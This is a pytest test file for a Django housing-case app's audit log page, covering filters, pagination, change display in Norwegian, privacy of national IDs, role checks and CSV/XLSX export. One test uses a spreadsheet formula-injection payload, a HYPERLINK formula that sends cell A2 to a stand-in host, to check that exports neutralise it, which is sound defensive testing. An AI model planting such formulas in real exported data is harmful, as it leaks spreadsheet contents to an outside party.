"""The audit log page: filters by date range, case and person beside user and action,
pagination that keeps them, changed fields by name with old → new values in the
reader's language, and an export of exactly the filtered rows."""

import csv
import datetime
import io

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from boligtorg.cases.factories import ApplicationFactory, HouseholdFactory, PersonFactory
from boligtorg.cases.models import Consent
from boligtorg.cases.services import applications as case_services
from boligtorg.core.audit import audit_record
from boligtorg.core.factories import actor_for, member
from boligtorg.core.forms import ERROR_DATE_RANGE
from boligtorg.core.models import AuditAction, AuditEvent, Role

pytestmark = pytest.mark.django_db

ATTACK = '=HYPERLINK("http://x.invalid/?"&A2,"Klikk")'


def _at(day, hour=12):
    """Noon (or ``hour``) local time on ``day``."""
    return timezone.make_aware(datetime.datetime.combine(day, datetime.time(hour)))


def _event(actor, obj, at=None, action=AuditAction.VIEW, changes=None):
    event = audit_record(actor=actor, action=action, obj=obj, changes=changes)
    if at is None:
        return event
    # An event is never updated: write a new one with the time wanted instead.
    return AuditEvent.objects.create(
        at=at,
        actor=event.actor,
        actor_username=event.actor_username,
        municipality=event.municipality,
        action=event.action,
        object_type=event.object_type,
        object_id=event.object_id,
        object_repr=event.object_repr,
        changes=event.changes,
    )


def _shown(response):
    return list(response.context["page"].object_list)


@pytest.fixture
def kari_actor(kari, trondheim):
    return actor_for(kari, trondheim)


@pytest.fixture
def other_case(trondheim, kari):
    person = PersonFactory(municipality=trondheim, first_name="Liv", last_name="Berg")
    return ApplicationFactory(
        municipality=trondheim,
        household=HouseholdFactory(municipality=trondheim, main=person),
        caseworker=kari,
    )


# Date range ---------------------------------------------------------------------


def test_the_date_range_takes_whole_local_days_from_the_first_to_the_last(
    client, per, kari_actor, ole_case
):
    first, last = datetime.date(2026, 3, 2), datetime.date(2026, 3, 4)
    before = _event(kari_actor, ole_case, _at(first - datetime.timedelta(days=1), 23))
    early = _event(kari_actor, ole_case, _at(first, 0))
    late = _event(kari_actor, ole_case, _at(last, 23))
    after = _event(kari_actor, ole_case, _at(last + datetime.timedelta(days=1), 0))
    client.force_login(per)
    response = client.get(reverse("core:audit_list"), {"date_from": first, "date_to": last})
    ids = {event.pk for event in _shown(response)}
    assert ids == {early.pk, late.pk}
    assert before.pk not in ids and after.pk not in ids


def test_a_last_day_before_the_first_is_an_error_at_the_last_day_field(
    client, per, kari_actor, ole_case
):
    client.force_login(per)
    response = client.get(
        reverse("core:audit_list"), {"date_from": "2026-03-10", "date_to": "2026-03-01"}
    )
    assert response.status_code == 200
    form = response.context["form"]
    assert form.errors == {"date_to": [str(ERROR_DATE_RANGE)]}
    html = response.content.decode()
    assert "Siste dag kan ikke være før første dag." in html
    assert 'value="2026-03-10"' in html and 'value="2026-03-01"' in html


# Case and person ------------------------------------------------------------------


def test_the_case_filter_shows_the_case_and_its_consents_and_nothing_of_other_cases(
    client, per, kari_actor, ole_case, other_case
):
    viewed = _event(kari_actor, ole_case)
    consent = Consent.objects.create(
        person=ole_case.applicant,
        recorded_by=kari_actor.user,
        services="NAV",
        given_on=timezone.localdate(),
        valid_until=timezone.localdate() + datetime.timedelta(days=30),
    )
    consented = _event(kari_actor, consent, action=AuditAction.CREATE)
    _event(kari_actor, other_case)
    client.force_login(per)
    response = client.get(reverse("core:audit_list"), {"case": ole_case.number})
    assert {event.pk for event in _shown(response)} == {viewed.pk, consented.pk}


def test_the_person_filter_by_name_posts_and_finds_the_persons_cases(
    client, per, kari_actor, ole_case, other_case
):
    viewed = _event(kari_actor, ole_case)
    person = _event(kari_actor, ole_case.applicant, action=AuditAction.UPDATE)
    _event(kari_actor, other_case)
    client.force_login(per)
    response = client.post(reverse("core:audit_list"), {"person": "ole hansen"})
    assert response.status_code == 302
    assert "hansen" not in response["Location"].lower()
    shown = _shown(client.get(response["Location"]))
    assert {event.pk for event in shown} == {viewed.pk, person.pk}


def test_the_person_filter_by_national_id_keeps_the_id_out_of_every_url(
    client, per, kari_actor, ole_case, other_case
):
    viewed = _event(kari_actor, ole_case)
    _event(kari_actor, other_case)
    national_id = ole_case.applicant.national_id
    client.force_login(per)
    location = client.post(reverse("core:audit_list"), {"person": national_id})["Location"]
    assert national_id not in location
    response = client.get(location)
    assert [event.pk for event in _shown(response)] == [viewed.pk]
    html = response.content.decode()
    assert f"person={national_id}" not in html
    # Typed into the URL by hand, it is moved out of it.
    typed = client.get(reverse("core:audit_list"), {"person": national_id})
    assert typed.status_code == 302 and national_id not in typed["Location"]


def test_looking_a_person_up_in_the_log_is_itself_recorded_but_reading_it_is_not(
    client, per, kari_actor, ole_case
):
    viewed = _event(kari_actor, ole_case)
    client.force_login(per)
    client.get(reverse("core:audit_list"))
    assert not AuditEvent.objects.filter(actor=per).exists()
    location = client.post(reverse("core:audit_list"), {"person": "Hansen"})["Location"]
    client.get(location)
    search = AuditEvent.objects.get(actor=per)
    assert (search.action, search.object_type, search.object_repr) == (
        AuditAction.LIST,
        "core.auditevent",
        "audit log",
    )
    assert search.changes["query"] == {"person": "Hansen", "page": 1}
    assert search.changes["ids"] == [str(viewed.pk)]


def test_the_user_and_action_filters_still_apply_with_the_new_ones(
    client, per, kari, kari_actor, trondheim, ole_case
):
    kept = _event(kari_actor, ole_case, action=AuditAction.UPDATE)
    _event(kari_actor, ole_case, action=AuditAction.VIEW)
    _event(actor_for(per, trondheim), ole_case, action=AuditAction.UPDATE)
    client.force_login(per)
    response = client.get(
        reverse("core:audit_list"),
        {"user": "kari", "action": AuditAction.UPDATE, "case": ole_case.number},
    )
    assert [event.pk for event in _shown(response)] == [kept.pk]


def test_pagination_keeps_the_filters(client, per, kari_actor, ole_case):
    day = datetime.date(2026, 3, 2)
    for _ in range(30):
        _event(kari_actor, ole_case, _at(day))
    client.force_login(per)
    html = client.get(
        reverse("core:audit_list"), {"date_from": day, "case": ole_case.number}
    ).content.decode()
    assert f"?date_from=2026-03-02&amp;case={ole_case.number}&amp;page=2" in html


# Changed fields -------------------------------------------------------------------


def test_a_change_shows_field_names_and_old_and_new_values_in_bokmal(
    client, per, kari_actor, ole_case
):
    case_services.application_update(
        actor=kari_actor,
        application=ole_case,
        version=ole_case.version,
        situation="at_risk",
        needs_wheelchair_access=True,
        household_income=350000,
    )
    _event(
        kari_actor,
        ole_case,
        action=AuditAction.UPDATE,
        changes={"received_on": ["2026-03-01", "2026-03-04"]},
    )
    client.force_login(per)
    html = client.get(reverse("core:audit_list"), {"case": ole_case.number}).content.decode()
    arrow = ' <span aria-hidden="true">→</span><span class="ds-sr-only">endret til</span> '
    assert f"Nåværende situasjon: Uten bolig{arrow}I fare for å miste boligen" in html
    assert f"Trenger tilgjengelighet for rullestol: Nei{arrow}Ja" in html
    assert f"Husstandens inntekt per år: –{arrow}350\xa0000" in html
    assert f"Mottatt: 01.03.2026{arrow}04.03.2026" in html
    assert "without_dwelling" not in html and "at_risk" not in html


# Export ---------------------------------------------------------------------------


def _csv_rows(response):
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


def test_the_export_holds_exactly_the_filtered_events_of_the_municipality(
    client, per, kari_actor, ole_case, other_case, sven, skanderborg
):
    day = datetime.date(2026, 3, 2)
    kept = [_event(kari_actor, ole_case, _at(day, hour)) for hour in (9, 10)]
    _event(kari_actor, ole_case, _at(day + datetime.timedelta(days=1)))
    _event(kari_actor, other_case, _at(day))
    _event(actor_for(sven, skanderborg), sven, _at(day))
    client.force_login(per)
    response = client.get(
        reverse("core:audit_export"),
        {"date_from": day, "date_to": day, "case": ole_case.number, "format": "csv"},
    )
    rows = _csv_rows(response)
    assert rows[0] == [
        "Tidspunkt",
        "Bruker",
        "Handling",
        "Type objekt",
        "Gjelder",
        "Objekt-ID",
        "Endringer eller søk",
        "Forespørsels-ID",
    ]
    assert [row[5] for row in rows[1:]] == [str(ole_case.pk)] * 2
    assert [row[0] for row in rows[1:]] == [
        "2026-03-02 10:00:00",
        "2026-03-02 09:00:00",
    ]
    assert {row[1] for row in rows[1:]} == {"kari"}
    assert 'filename="revisjonslogg-' in response["Content-Disposition"]
    event = AuditEvent.objects.get(action=AuditAction.EXPORT)
    assert event.changes["ids"] == [str(e.pk) for e in reversed(kept)]
    assert event.changes["query"]["case"] == ole_case.number


def test_sven_exports_none_of_trondheims_audit_log(client, skanderborg, kari_actor, ole_case, sven):
    auditor = member("sofie", skanderborg, Role.AUDITOR)
    _event(kari_actor, ole_case)
    own = _event(actor_for(sven, skanderborg), sven)
    client.force_login(auditor)
    response = client.get(reverse("core:audit_export"), {"format": "xlsx"})
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()][1:]
    assert [row[5] for row in rows] == [str(own.object_id)]


def test_the_export_shows_changes_in_bokmal_and_makes_a_formula_inert(
    client, per, kari_actor, ole_case
):
    _event(
        kari_actor,
        ole_case,
        action=AuditAction.UPDATE,
        changes={"situation": ["without_dwelling", "at_risk"], "wanted_areas": ["", ATTACK]},
    )
    AuditEvent.objects.create(
        actor_username=ATTACK, municipality=ole_case.municipality, action=AuditAction.VIEW
    )
    client.force_login(per)
    rows = _csv_rows(client.get(reverse("core:audit_export"), {"format": "csv"}))
    changed = next(row for row in rows if row[2] == "Endret")
    assert "Nåværende situasjon: Uten bolig → I fare for å miste boligen" in changed[6]
    assert f"Ønskede områder: – → {ATTACK}" in changed[6]
    assert any(row[1] == "'" + ATTACK for row in rows)
    response = client.get(reverse("core:audit_export"), {"format": "xlsx"})
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [row[1] for row in sheet.iter_rows(min_row=2)]
    attack = next(cell for cell in cells if cell.value == ATTACK)
    assert (attack.data_type, attack.quotePrefix) == ("s", True)


def test_an_export_with_a_bad_date_range_goes_back_to_the_page_with_the_error(client, per):
    client.force_login(per)
    response = client.get(
        reverse("core:audit_export"),
        {"date_from": "2026-03-10", "date_to": "2026-03-01", "format": "csv"},
        follow=True,
    )
    assert response.context["form"].errors == {"date_to": [str(ERROR_DATE_RANGE)]}
    assert not AuditEvent.objects.filter(action=AuditAction.EXPORT).exists()


def test_the_page_links_to_both_exports_with_its_filters(client, per, ole_case):
    client.force_login(per)
    html = client.get(reverse("core:audit_list"), {"case": ole_case.number}).content.decode()
    for file_format in ("csv", "xlsx"):
        assert (
            f"{reverse('core:audit_export')}?case={ole_case.number}&amp;format={file_format}"
            in html
        )


# Access and cost ------------------------------------------------------------------


@pytest.mark.parametrize("url_name", ["core:audit_list", "core:audit_export"])
def test_roles_without_the_audit_log_get_403(client, kari, tone, url_name):
    for user in (kari, tone):
        client.force_login(user)
        assert client.get(reverse(url_name)).status_code == 403


def test_the_filtered_page_reads_in_a_fixed_number_of_queries(
    client, per, kari_actor, ole_case, django_assert_num_queries
):
    for _ in range(30):
        _event(
            kari_actor,
            ole_case,
            action=AuditAction.UPDATE,
            changes={"situation": ["without_dwelling", "at_risk"]},
        )
    client.force_login(per)
    query = {"date_from": "2026-01-01", "case": ole_case.number, "user": "kari", "page": "2"}
    # session, user, memberships with roles; the count; the page; the search's event
    with django_assert_num_queries(6):
        assert client.get(reverse("core:audit_list"), query).status_code == 200


def test_the_export_reads_in_a_fixed_number_of_queries(
    client, per, kari_actor, ole_case, django_assert_num_queries
):
    for _ in range(30):
        _event(kari_actor, ole_case)
    client.force_login(per)
    # session, user, memberships with roles; the events; the audit event
    with django_assert_num_queries(5):
        client.get(reverse("core:audit_export"), {"case": ole_case.number, "format": "xlsx"})
